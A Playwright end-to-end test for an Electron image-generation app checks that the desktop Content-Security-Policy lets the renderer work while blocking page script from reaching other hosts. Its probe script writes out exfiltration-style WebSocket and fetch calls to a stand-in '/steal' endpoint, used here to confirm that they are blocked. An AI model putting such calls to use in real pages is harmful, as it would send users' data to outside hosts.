// The desktop window's Content-Security-Policy (electron/desktop/studio-protocol.ts's header, on top of the
// page's own <meta> policy) in a real Chromium: the built renderer works under it (an image generated and
// shown, the gallery, no violation reported), and script in the page can no longer open a WebSocket or a
// fetch to another host, which the <meta> policy alone allows (connect-src ws: wss:). The pages come from
// the local server with its header replaced by the desktop's, as studio:// serves them in Electron.
// Page scripts are strings: this file is type-checked with Node's types, not the DOM's.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { chromium, type Browser } from 'playwright-core';
import { DESKTOP_CSP } from '../electron/desktop/studio-protocol.ts';
import { CHROMIUM, E2E_MODEL } from './helpers/browser.ts';
import { startStudio, type Studio } from './helpers/studio.ts';

let browser: Browser;
let studio: Studio;

before(async () => {
  // A response Playwright fulfils has no address space of its own: Chromium's local network access checks would
  // then stop the page's WebSocket to the loopback server, whatever the CSP.
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-features=LocalNetworkAccessChecks'],
  });
  studio = await startStudio({ model: E2E_MODEL });
});

after(async () => {
  await browser?.close();
  await studio?.stop();
});

const WATCH_VIOLATIONS = `
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) =>
    window.__violations.push([e.violatedDirective, e.blockedURI, e.sourceFile + ':' + e.lineNumber].join(' ')),
  );
`;

/** What page script gets when it tries to reach another host: 'blocked' by the CSP, or 'allowed'. */
const TRY_EXFILTRATION = `(async () => {
  const before = window.__violations.length;
  const results = {};
  try {
    const socket = new WebSocket('ws://198.51.100.7:9/steal');
    socket.onerror = () => undefined;
    await new Promise((done) => setTimeout(done, 200));
    socket.close();
    results.websocket = window.__violations.slice(before).some((v) => v.startsWith('connect-src')) ? 'blocked' : 'allowed';
  } catch (error) {
    results.websocket = error.name === 'SecurityError' ? 'blocked' : 'error ' + error.name;
  }
  const mid = window.__violations.length;
  try {
    await fetch('http://198.51.100.7:9/steal', { method: 'POST', body: 'x', signal: AbortSignal.timeout(500) });
    results.fetch = 'allowed';
  } catch {
    await new Promise((done) => setTimeout(done, 200));
    results.fetch = window.__violations.slice(mid).some((v) => v.startsWith('connect-src')) ? 'blocked' : 'allowed';
  }
  return results;
})()`;

test('the renderer works under the desktop CSP, and page script cannot connect to another host', { timeout: 180_000 }, async () => {
  const context = await browser.newContext();
  try {
    await context.addInitScript(WATCH_VIOLATIONS);
    await context.route('**/*', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': DESKTOP_CSP } });
    });
    const page = await context.newPage();
    page.setDefaultTimeout(60_000);
    await page.goto(studio.server.url);
    await page.locator('button.primary:not([disabled])', { hasText: 'Generate' }).waitFor();
    await page.getByLabel('Prompt', { exact: true }).fill('a red circle on a blue background');
    await page.getByRole('button', { name: 'Generate', exact: true }).click();
    const image = page.getByAltText('Generated image 1');
    await image.waitFor();
    // The gallery image from the page's own origin (img-src 'self') loads.
    await page.waitForFunction(`[...document.images].some((i) => i.alt === 'Generated image 1' && i.complete && i.naturalWidth > 0)`);
    await page.getByRole('tab', { name: 'Gallery' }).click();
    await page.getByRole('group', { name: 'Gallery thumbnails' }).locator('img').first().waitFor();
    // zod probes once whether it may compile validators (Function('') in a try): refused by both policies, as meant.
    const violations = (await page.evaluate('window.__violations')) as string[];
    assert.deepEqual(
      violations.filter((v) => !v.startsWith('script-src eval ')),
      [],
      'the app itself stays inside the policy',
    );

    assert.deepEqual(await page.evaluate(TRY_EXFILTRATION), { websocket: 'blocked', fetch: 'blocked' });
  } finally {
    await context.close();
  }
});
